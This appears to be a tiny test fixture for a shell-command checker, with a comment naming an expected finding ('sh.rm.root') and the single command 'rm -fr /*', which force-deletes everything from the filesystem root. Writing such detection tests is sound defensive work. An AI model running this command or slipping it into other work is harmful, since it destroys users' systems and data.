# want: sh.rm.root
rm -fr /*
